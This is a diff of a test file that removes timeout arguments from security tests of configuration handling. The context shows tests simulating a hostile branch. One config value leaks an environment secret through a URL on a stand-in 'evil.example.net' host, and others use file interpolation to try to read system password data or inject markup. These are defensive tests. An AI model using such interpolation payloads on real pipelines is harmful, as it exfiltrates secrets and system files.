@@ -111,7 +111,7 @@ describe('a branch that is out for keys', () => {
     write('server: { url: "https://agents.example.com", api_key: "${env:KEY}" }');
     await run(['plan']);
     expect(arrived, 'the way that is allowed leads there').toBeGreaterThan(0);
-  }, 60_000);
+  });
 
   it('hides the url in what only the pipeline has', async () => {
     write('server: { url: "https://${env:CLOUD_SECRET}.evil.example.net", api_key: "${env:KEY}" }');
@@ -150,7 +150,7 @@ settings: { llm_api_key: "\${file:${path}}" }`);
         expect((await run(command)).shown).not.toContain('root:');
     }
     expect(server.posts()).toBe(0);
-  }, 60_000);
+  });
 });
 
 describe('a branch whose every text is markup, escapes and commands', () => {
@@ -187,5 +187,5 @@ settings:
         if (format === 'html') expect(stdout).not.toMatch(/<(?:script|img)/i);
       }
     }
-  }, 120_000);
+  });
 });
